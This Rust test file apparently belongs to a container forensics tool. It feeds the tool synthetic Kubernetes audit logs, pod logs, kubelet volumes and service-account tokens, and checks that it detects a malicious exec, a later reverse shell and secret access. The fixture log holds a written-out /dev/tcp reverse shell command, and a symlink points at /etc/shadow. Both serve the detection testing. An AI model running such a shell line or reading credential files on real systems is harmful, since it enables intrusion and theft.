//! Kubernetes API server audit logs in bundles built in code: an exec into pod P by a
//! service account from X, joined to P's container (by its CRI log directory, or by the
//! `io.kubernetes.*` labels of its inspect record), its chain starting with the exec and
//! naming the identity and X, X an attacker-side indicator; routine execs, other pods, a
//! pod with no container in the evidence; hostile audit logs (empty, cut short, a 100 KB
//! request object, a document that is not an event, gzip-rotated, garbage).

use std::io::Write;

use serde_json::Value;

use crate::util::{run_json, validate_against_schema, write_files};

const SA: &str = "system:serviceaccount:shop:deployer";
const X: &str = "203.0.113.50";
const POD_DIR: &str = "var/log/pods/shop_web-7d9_0a1b2c3d/app/0.log";

/// One audit event as the log backend writes it.
#[allow(clippy::too_many_arguments)]
fn event(
    id: &str,
    stage: &str,
    verb: &str,
    user: &str,
    object: &str,
    uri: &str,
    code: u16,
    t: &str,
) -> String {
    format!(
        r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"{id}","stage":"{stage}","requestURI":"{uri}","verb":"{verb}","user":{{"username":"{user}","groups":["system:serviceaccounts","system:authenticated"]}},"sourceIPs":["{X}"],"userAgent":"kubectl/v1.30.0 (linux/amd64)","objectRef":{object},"responseStatus":{{"metadata":{{}},"code":{code}}},"requestReceivedTimestamp":"{t}","stageTimestamp":"{t}","annotations":{{"authorization.k8s.io/decision":"{}"}}}}"#,
        if code < 400 { "allow" } else { "forbid" }
    )
}

fn exec(id: &str, user: &str, pod: &str, t: &str) -> String {
    event(
        id,
        "ResponseStarted",
        "create",
        user,
        &format!(r#"{{"resource":"pods","namespace":"shop","name":"{pod}","apiVersion":"v1","subresource":"exec"}}"#),
        &format!("/api/v1/namespaces/shop/pods/{pod}/exec?command=sh&container=app&stdin=true&stdout=true&tty=true"),
        101,
        t,
    )
}

/// The audit log: a list of pods, the exec at T = 14:00:00 (logged at two stages), then
/// the same identity reading the shop's secrets.
fn audit_log() -> String {
    [
        event(
            "a1",
            "ResponseComplete",
            "list",
            SA,
            r#"{"resource":"pods","namespace":"shop","apiVersion":"v1"}"#,
            "/api/v1/namespaces/shop/pods",
            200,
            "2026-11-27T13:59:50.000000Z",
        ),
        exec("a2", SA, "web-7d9", "2026-11-27T14:00:00.050000Z"),
        exec("a2", SA, "web-7d9", "2026-11-27T14:05:00.000000Z")
            .replace("ResponseStarted", "ResponseComplete"),
        event(
            "a3",
            "ResponseComplete",
            "list",
            SA,
            r#"{"resource":"secrets","namespace":"shop","apiVersion":"v1"}"#,
            "/api/v1/namespaces/shop/secrets",
            200,
            "2026-11-27T14:06:00.000000Z",
        ),
    ]
    .join("\n")
        + "\n"
}

/// P's CRI log: the app, then a reverse shell 20 s after the exec.
const CRI: &str = "2026-11-27T13:50:00.123456789Z stdout F listening on :8080\n\
2026-11-27T14:00:20.123456789Z stderr F sh: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n\
2026-11-27T14:00:21.123456789Z stdout F GET /health 200\n";

fn bundle(files: &[(&str, &[u8])]) -> (tempfile::TempDir, Value) {
    let dir = tempfile::tempdir().unwrap();
    write_files(dir.path(), files);
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    validate_against_schema(&v);
    (dir, v)
}

fn verdict<'a>(b: &'a Value, container: &str) -> &'a Value {
    b["verdicts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["container"] == container)
        .unwrap_or_else(|| panic!("no verdict for {container}: {:#}", b["verdicts"]))
}

fn chain_of<'a>(b: &'a Value, container: &str) -> Vec<&'a Value> {
    b["chain"].as_array().unwrap().iter().filter(|s| s["container"] == container).collect()
}

/// The exec is the way in of `container`'s chain, naming the identity and X; the reverse
/// shell follows it; X is an attacker-side indicator.
fn assert_exec_story(b: &Value, container: &str) {
    let v = verdict(b, container);
    assert_eq!(v["status"], "compromised", "{v:#}");
    let way_in = v["way_in"].as_str().unwrap();
    assert!(
        way_in.contains(SA) && way_in.contains(X) && way_in.contains("exec'ed into pod shop/web-7d9"),
        "{way_in}"
    );
    let chain = chain_of(b, container);
    assert_eq!(chain[0]["stage"], "way in", "{chain:#?}");
    assert_eq!(chain[0]["rule"], "k8saudit.attach-exec-pod");
    assert_eq!(chain[0]["when"]["time"], "2026-11-27T14:00:00.050000000Z", "{:#}", chain[0]);
    let title = chain[0]["title"].as_str().unwrap();
    assert!(title.contains(SA) && title.contains(X), "{title}");
    assert!(
        chain.iter().any(|s| s["rule"] == "log.shell.reverse.dev-tcp"),
        "the reverse shell in P's log follows the exec: {chain:#?}"
    );
    let x = b["iocs"].as_array().unwrap().iter().find(|i| i["value"] == X).expect("X among the indicators");
    assert_eq!(x["role"], "api-client", "{x}");
    let host = b["hosts"].as_array().unwrap().iter().find(|h| h["value"] == X).unwrap();
    assert_eq!(host["role"], "attacker", "{host}");
    // The exec finding carries its actor, typed; the timeline carries the audit record.
    let exec =
        b["findings"].as_array().unwrap().iter().find(|f| f["rule"] == "k8saudit.attach-exec-pod").unwrap();
    assert_eq!(exec["actor"]["user"], SA);
    assert_eq!(exec["actor"]["source_ips"][0], X);
    assert_eq!(exec["owner"]["scope"], "container");
    assert!(b["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .any(|t| t["kind"] == "k8s-audit" && t["timestamp_desc"] == "audit ResponseStarted time"));
    // One exec logged at two stages is one finding.
    let execs = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rules"].as_array().unwrap().iter().any(|r| r == "k8saudit.attach-exec-pod"))
        .count();
    assert_eq!(execs, 1);
}

#[test]
fn an_exec_and_the_pod_s_cri_log_are_one_chain() {
    let log = audit_log();
    let (_d, v) = bundle(&[("audit/audit.log", log.as_bytes()), (POD_DIR, CRI.as_bytes())]);
    let b = &v["bundles"][0];
    let kinds: Vec<&str> =
        b["artifacts"].as_array().unwrap().iter().map(|a| a["kind"].as_str().unwrap()).collect();
    assert!(kinds.contains(&"k8s-audit") && kinds.contains(&"cri-log"), "{kinds:?}");
    assert_exec_story(b, "shop/web-7d9/app");
    let c = &b["containers"][0];
    assert_eq!(c["source"], "pod-logs");
    assert_eq!(c["config"]["labels"]["io.kubernetes.pod.uid"], "0a1b2c3d");
    // The same identity listed the shop's secrets: its own fact, the bundle's (no pod).
    let listed = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "k8saudit.secrets-listed")
        .expect("secrets listed");
    assert_eq!(listed["owner"]["scope"], "bundle");
}

#[test]
fn an_exec_joins_the_inspect_record_labelled_with_its_pod() {
    let id = "9f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff";
    let inspect = format!(
        r#"[{{"Id":"{id}","Name":"/k8s_app_web-7d9_shop_0a1b2c3d_0","Created":"2026-11-27T13:49:58Z",
        "State":{{"Status":"running","Running":true,"Pid":4100,"StartedAt":"2026-11-27T13:50:00Z"}},
        "Image":"sha256:aaaa","HostConfig":{{"NetworkMode":"container:abc"}},
        "Config":{{"Image":"shop:1.4","Cmd":["/app/server"],"User":"1000","Labels":{{
          "io.kubernetes.pod.namespace":"shop","io.kubernetes.pod.name":"web-7d9",
          "io.kubernetes.pod.uid":"0a1b2c3d","io.kubernetes.container.name":"app"}}}}}}]"#
    );
    let log = audit_log();
    let (_d, v) = bundle(&[
        ("audit.log", log.as_bytes()),
        ("node/inspect.json", inspect.as_bytes()),
        (&format!("node/{POD_DIR}"), CRI.as_bytes()),
    ]);
    let b = &v["bundles"][0];
    assert_eq!(b["containers"].as_array().unwrap().len(), 1, "no second record for the same container");
    assert_exec_story(b, "k8s_app_web-7d9_shop_0a1b2c3d_0");
}

#[test]
fn the_exec_is_only_its_own_pod_s_and_a_routine_exec_is_no_way_in() {
    let other = "var/log/pods/shop_db-0_77aa/db/0.log";
    let log = audit_log()
        + &exec("n1", "system:node:worker-1", "db-0", "2026-11-27T14:01:00Z")
            .replace("container=app", "container=db");
    let (_d, v) = bundle(&[
        ("audit.log", log.as_bytes()),
        (POD_DIR, CRI.as_bytes()),
        (other, b"2026-11-27T14:00:00.000000001Z stdout F ready\n"),
    ]);
    let b = &v["bundles"][0];
    assert_exec_story(b, "shop/web-7d9/app");
    // The node's exec into db-0: a routine fact of db-0's container, no way in.
    // (Sigma's exec rule, medium, leads the fact of that record.)
    let routine = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rules"].as_array().unwrap().iter().any(|r| r == "k8saudit.attach-exec-pod-system"))
        .unwrap();
    assert_ne!(routine["rule"], "k8saudit.attach-exec-pod");
    assert_eq!(routine["owner"]["name"], "shop/db-0/db");
    assert!(chain_of(b, "shop/db-0/db").is_empty(), "{:#}", b["chain"]);
    assert_ne!(verdict(b, "shop/db-0/db")["status"], "compromised");
}

#[test]
fn an_exec_into_a_pod_with_no_container_in_the_evidence_stays_the_bundle_s_with_why() {
    let log = audit_log();
    let (_d, v) = bundle(&[("audit.log", log.as_bytes())]);
    let b = &v["bundles"][0];
    let exec =
        b["findings"].as_array().unwrap().iter().find(|f| f["rule"] == "k8saudit.attach-exec-pod").unwrap();
    assert_eq!(exec["owner"]["scope"], "bundle");
    let why = exec["owner"]["why"].as_str().unwrap();
    assert!(why.contains("pod shop/web-7d9 has no container in the evidence"), "{why}");
    let v = b["verdicts"].as_array().unwrap().iter().find(|v| v["container"].is_null()).unwrap();
    assert_eq!(v["status"], "compromised", "{v:#}");
    assert!(v["way_in"].as_str().unwrap().contains(X));
}

#[test]
fn forbidden_bursts_are_one_finding_per_identity() {
    let mut log = String::new();
    for i in 0..12 {
        log += &event(
            &format!("f{i}"),
            "ResponseComplete",
            "get",
            "system:serviceaccount:shop:web",
            r#"{"resource":"secrets","namespace":"kube-system","name":"admin-token","apiVersion":"v1"}"#,
            "/api/v1/namespaces/kube-system/secrets/admin-token",
            403,
            &format!("2026-11-27T14:10:{i:02}Z"),
        );
        log.push('\n');
    }
    let (_d, v) = bundle(&[("audit.log", log.as_bytes())]);
    let b = &v["bundles"][0];
    let f: Vec<&Value> = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "k8saudit.forbidden-burst")
        .collect();
    assert_eq!(f.len(), 1, "{:#}", b["findings"]);
    assert!(f[0]["summary"].as_str().unwrap().starts_with("12 requests by system:serviceaccount:shop:web"));
    assert!(
        !b["findings"].as_array().unwrap().iter().any(|f| f["rule"] == "k8saudit.secret-read"),
        "denied reads read nothing"
    );
}

#[test]
fn hostile_audit_logs() {
    let good = exec("h1", SA, "web-7d9", "2026-11-27T14:00:00Z");
    // A privileged pod whose request object carries a 100 KB annotation.
    let big = format!(
        r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"big","stage":"ResponseComplete","verb":"create","user":{{"username":"alice"}},"sourceIPs":["198.51.100.20"],"objectRef":{{"resource":"pods","namespace":"shop","name":"p1","apiVersion":"v1"}},"responseStatus":{{"code":201}},"requestObject":{{"metadata":{{"name":"p1","annotations":{{"junk":"{}"}}}},"spec":{{"containers":[{{"name":"c","image":"alpine","securityContext":{{"privileged":true}}}}]}}}},"stageTimestamp":"2026-11-27T14:00:00Z"}}"#,
        "A".repeat(100 << 10)
    );
    let truncated = format!("{good}\n{}", &good[..good.len() / 2]);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(format!("{good}\n").as_bytes()).unwrap();
    let gz = gz.finish().unwrap();
    let (_d, v) = bundle(&[
        ("empty/audit.log", b""),
        ("cut/audit.log", truncated.as_bytes()),
        ("big/audit.log", big.as_bytes()),
        ("pod/audit.json", br#"{"kind":"Pod","apiVersion":"v1","metadata":{"name":"x"}}"#),
        ("rotated/audit-2026-11-27T14-00-00.000.log.gz", &gz),
        (
            "garbage/audit.log",
            b"{\"kind\":\"Event\",\"auditID\":\"g\",\"verb\":\"get\"}\nnot json {{{{\n[1,2\n",
        ),
    ]);
    let b = &v["bundles"][0];
    let kind = |p: &str| {
        b["artifacts"].as_array().unwrap().iter().find(|a| a["path"] == p).unwrap()["kind"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert_eq!(kind("empty/audit.log"), "empty");
    assert_eq!(kind("cut/audit.log"), "k8s-audit");
    assert_eq!(kind("pod/audit.json"), "k8s-audit");
    assert_eq!(kind("rotated/audit-2026-11-27T14-00-00.000.log.gz"), "k8s-audit");
    let diags = b["diagnostics"].as_array().unwrap();
    let diag = |p: &str| -> Vec<String> {
        diags
            .iter()
            .filter(|d| d["locator"]["artifact"] == p)
            .map(|d| format!("{} {}", d["level"].as_str().unwrap(), d["message"].as_str().unwrap()))
            .collect()
    };
    assert!(
        diag("cut/audit.log").iter().any(|m| m.starts_with("warning line 2: cut short")),
        "{:?}",
        diag("cut/audit.log")
    );
    assert!(
        diag("pod/audit.json")
            .iter()
            .any(|m| m.starts_with("error not a Kubernetes audit log") && m.contains("\"Pod\"")),
        "{:?}",
        diag("pod/audit.json")
    );
    assert!(
        diag("garbage/audit.log").iter().any(|m| m.contains("line 2: not JSON")),
        "{:?}",
        diag("garbage/audit.log")
    );
    let from = |p: &str, rule: &str| {
        b["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| {
                f["evidence"][0]["artifact"] == p && f["rules"].as_array().unwrap().iter().any(|r| r == rule)
            })
            .count()
    };
    assert_eq!(from("cut/audit.log", "k8saudit.attach-exec-pod"), 1, "the whole line before the cut is read");
    assert_eq!(from("rotated/audit-2026-11-27T14-00-00.000.log.gz", "k8saudit.attach-exec-pod"), 1);
    assert_eq!(from("big/audit.log", "k8saudit.privileged-pod"), 1, "a 100 KB request object is judged");
    assert!(b["log_hits"].as_array().unwrap().is_empty(), "the log engine stays off audit logs");
}

const UID: &str = "7c4e5d2a-1b3f-4e6a-9d8c-0f1e2d3c4b5a";
const WEB_SA: &str = "system:serviceaccount:shop:web";
const CID: &str = "5e6f7a8b9c0d1e2f3a4b5c6d7e8f90a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7";

/// A JWT whose payload is `claims` (header and signature are never read).
fn jwt(claims: &str) -> String {
    use base64::Engine as _;
    let e = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
    format!("{}.{}.{}", e(r#"{"alg":"RS256","kid":"k"}"#), e(claims), e("SIGNATURE-NEVER-SHOWN"))
}

fn bound_token() -> String {
    jwt(&format!(
        r#"{{"aud":["https://kubernetes.default.svc.cluster.local","k3s"],"exp":1795790998,"iat":1795787398,"iss":"https://kubernetes.default.svc.cluster.local","kubernetes.io":{{"namespace":"shop","node":{{"name":"worker-1","uid":"n1"}},"pod":{{"name":"web-7d9","uid":"{UID}"}},"serviceaccount":{{"name":"web","uid":"s1"}},"warnafter":1795790000}},"nbf":1795787398,"sub":"{WEB_SA}"}}"#
    ))
}

/// A kubelet's atomic-writer volume: the files in a dated directory, `..data` and each
/// file's name links into it (links only, recorded and never followed).
fn atomic_volume(root: &std::path::Path, vol: &str, files: &[(&str, &[u8])]) {
    let dated = root.join(vol).join("..2026_11_27_13_49_58.123456789");
    std::fs::create_dir_all(&dated).unwrap();
    for (name, data) in files {
        std::fs::write(dated.join(name), data).unwrap();
        std::os::unix::fs::symlink(format!("..data/{name}"), root.join(vol).join(name)).unwrap();
    }
    std::os::unix::fs::symlink("..2026_11_27_13_49_58.123456789", root.join(vol).join("..data")).unwrap();
}

#[test]
fn an_exec_a_shell_and_the_kubelet_pod_dir_name_the_identity_the_container_holds() {
    let dir = tempfile::tempdir().unwrap();
    let node = dir.path().join("node");
    // The audit log: the deployer's exec into web-7d9 at T, then, after the shell, the pod's
    // own service account listing the shop's secrets from the pod's address.
    let log = [
        exec("a2", SA, "web-7d9", "2026-11-27T14:00:00.050000Z"),
        event(
            "w1",
            "ResponseComplete",
            "list",
            WEB_SA,
            r#"{"resource":"secrets","namespace":"shop","apiVersion":"v1"}"#,
            "/api/v1/namespaces/shop/secrets",
            200,
            "2026-11-27T14:01:00.000000Z",
        )
        .replace(X, "10.42.0.15"),
    ]
    .join("\n")
        + "\n";
    let pod_log = format!("var/log/pods/shop_web-7d9_{UID}/app/0.log");
    let kubelet = format!("var/lib/kubelet/pods/{UID}");
    let legacy = jwt(
        r#"{"iss":"kubernetes/serviceaccount","kubernetes.io/serviceaccount/namespace":"shop","kubernetes.io/serviceaccount/secret.name":"ci-token-q","kubernetes.io/serviceaccount/service-account.name":"ci"}"#,
    );
    let orphan = "0f0e0d0c-0b0a-4909-8807-060504030201";
    let garbage = "11111111-2222-4333-8444-555555555555";
    write_files(
        &node,
        &[
            ("audit/audit.log", log.as_bytes()),
            (&pod_log, CRI.as_bytes()),
            (&format!("{kubelet}/etc-hosts"), b"# Kubernetes-managed hosts file.\n10.42.0.15\tweb-7d9\n"),
            (&format!("{kubelet}/containers/app/8f3a2b1c"), b""),
            // An init container the evidence has no log or record of.
            (&format!("{kubelet}/containers/init-db/5d6e7f80"), b""),
            // A pod nothing else names, holding a legacy token; a token file that is not one.
            (
                &format!("var/lib/kubelet/pods/{orphan}/volumes/kubernetes.io~secret/ci-token-q/..2026_11_01_00_00_00.1/token"),
                legacy.as_bytes(),
            ),
            (
                &format!("var/lib/kubelet/pods/{garbage}/volumes/kubernetes.io~projected/kube-api-access-z/..2026_11_01_00_00_00.1/token"),
                b"not.a-jwt\xff",
            ),
        ],
    );
    let token = bound_token();
    atomic_volume(
        &node.join(&kubelet).join("volumes/kubernetes.io~projected"),
        "kube-api-access-9xk2p",
        &[("token", token.as_bytes()), ("ca.crt", b"-----BEGIN CERTIFICATE-----\n"), ("namespace", b"shop")],
    );
    atomic_volume(
        &node.join(&kubelet).join("volumes/kubernetes.io~secret"),
        "db-creds",
        &[
            ("password", b"hunter2-SECRET-VALUE\n"),
            ("username", b"shop\n"),
            ("token", b"api-key-NOT-A-JWT\n"),
        ],
    );
    let links = node.join("var/log/containers");
    std::fs::create_dir_all(&links).unwrap();
    std::os::unix::fs::symlink(
        format!("/var/log/pods/shop_web-7d9_{UID}/app/0.log"),
        links.join(format!("web-7d9_shop_app-{CID}.log")),
    )
    .unwrap();
    // A link out of the evidence: recorded, never followed.
    std::os::unix::fs::symlink("/etc/shadow", links.join(format!("evil_shop_x-{}.log", "a".repeat(64))))
        .unwrap();

    let (v, _) = run_json(&["scan", node.to_str().unwrap()]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    assert_exec_story(b, "shop/web-7d9/app");
    // One verdict for the pod's container, which names the identity it holds.
    let verdicts: Vec<&Value> = b["verdicts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|v| v["container"].as_str().is_some_and(|c| c.contains("web-7d9")))
        .collect();
    assert_eq!(verdicts.len(), 1, "{verdicts:#?}");
    let verdict = verdicts[0];
    assert_eq!(verdict["id"], CID, "the id from the node's var/log/containers link: {verdict:#}");
    assert_eq!(verdict["identities"], serde_json::json!([format!("service-account token of {WEB_SA}")]));
    assert!(
        verdict["secrets"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s.as_str().unwrap().contains("keys: password, token, username")),
        "{verdict:#}"
    );
    let finding = |rule: &str| -> &Value {
        b["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| {
                f["rules"].as_array().unwrap().iter().any(|r| r == rule)
                    && f["title"].as_str().unwrap().contains(WEB_SA)
            })
            .unwrap_or_else(|| panic!("no {rule}: {:#}", b["findings"]))
    };
    let held = finding("exposure.sa-token-held");
    assert_eq!(held["owner"]["name"], "shop/web-7d9/app");
    assert!(held["summary"].as_str().unwrap().contains("bound to this pod"), "{held:#}");
    assert_eq!(held["time"], "2026-11-27T13:49:58.000000000Z");
    // The identity the container holds acted in the cluster: the token's use.
    let used = finding("correlate.sa-token-used");
    assert_eq!(used["owner"]["name"], "shop/web-7d9/app");
    assert_eq!(used["actor"]["user"], WEB_SA);
    assert_eq!(used["actor"]["source_ips"][0], "10.42.0.15");
    assert_eq!(used["time"], "2026-11-27T14:01:00.000000000Z");
    assert!(used["summary"].as_str().unwrap().contains("(the pod's own address 10.42.0.15)"), "{used:#}");
    // The kubelet's pod, typed: named by its token, its volumes by file name, the claims.
    let pods = b["data_root"]["kubelet"].as_array().unwrap();
    let pod = pods.iter().find(|p| p["uid"] == UID).unwrap();
    assert_eq!((pod["namespace"].as_str(), pod["name"].as_str()), (Some("shop"), Some("web-7d9")));
    assert_eq!(pod["named_by"], "token claims");
    assert_eq!(pod["containers"], serde_json::json!(["app", "init-db"]));
    assert_eq!(pod["pod_ips"], serde_json::json!(["10.42.0.15"]));
    let claims = &pod["tokens"][0]["claims"];
    assert_eq!((claims["subject"].as_str(), claims["service_account"].as_str()), (Some(WEB_SA), Some("web")));
    assert_eq!(claims["expires"], "2026-11-27T14:49:58.000000000Z");
    let vol =
        pod["volumes"].as_array().unwrap().iter().find(|v| v["name"] == "kube-api-access-9xk2p").unwrap();
    assert_eq!(vol["files"], serde_json::json!(["ca.crt", "namespace", "token"]));
    // The pod nothing names: its legacy token is the bundle's, with why; the garbage token
    // is a diagnostic.
    let orphaned = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["title"] == "service-account token of system:serviceaccount:shop:ci")
        .expect("the orphan pod's token");
    assert_eq!(orphaned["owner"]["scope"], "bundle");
    assert!(orphaned["owner"]["why"].as_str().unwrap().contains("nothing in the evidence names its pod"));
    let diag_on = |p: &str| {
        b["diagnostics"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["locator"]["artifact"].as_str().unwrap().contains(p))
    };
    assert!(!diag_on("db-creds"), "a secret's key named token is a secret, not a broken token");
    assert!(
        !diag_on("containers/app/8f3a2b1c"),
        "a restart marker is empty by design: {:#}",
        b["diagnostics"]
    );
    assert!(!diag_on("etc-hosts"), "the pod's hosts file is the kubelet's record, not a log");
    assert!(
        b["diagnostics"].as_array().unwrap().iter().any(|d| d["locator"]["artifact"]
            .as_str()
            .unwrap()
            .contains(garbage)
            && d["message"].as_str().unwrap().contains("not read as a service-account token")),
        "{:#}",
        b["diagnostics"]
    );
    // Links are links; secret and token files are never read as logs; nothing of the token
    // or the secret's value is in any output.
    let kind = |p: &str| {
        b["artifacts"].as_array().unwrap().iter().find(|a| a["path"].as_str().unwrap().ends_with(p)).unwrap()
            ["kind"]
            .clone()
    };
    assert_eq!(kind(&format!("evil_shop_x-{}.log", "a".repeat(64))), "link");
    assert_eq!(kind("db-creds/..2026_11_27_13_49_58.123456789/password"), "data-root-file");
    let plan = String::from_utf8(crate::util::run(&["plan", node.to_str().unwrap()]).stdout).unwrap();
    assert!(plan.contains("Revoke and rotate the Kubernetes service account of shop/web-7d9/app"), "{plan}");
    let payload = token.split('.').nth(1).unwrap();
    let text = String::from_utf8(crate::util::run(&["scan", node.to_str().unwrap()]).stdout).unwrap();
    // The JSONL verdict names the identity the container holds.
    let jsonl =
        String::from_utf8(crate::util::run(&["scan", "--format", "jsonl", node.to_str().unwrap()]).stdout)
            .unwrap();
    let verdict: Value = jsonl
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|r| r["event"]["outcome"] == "compromised" || r["ctriage"]["identities"].is_array())
        .expect("a verdict record");
    assert!(
        verdict["ctriage"]["identities"].to_string().contains("system:serviceaccount:shop:web"),
        "{verdict:#}"
    );
    for out in [v.to_string(), text, jsonl] {
        for never in [payload, "SIGNATURE", "hunter2", "api-key", &legacy[10..40]] {
            assert!(!out.contains(never), "{never} shown");
        }
    }
}
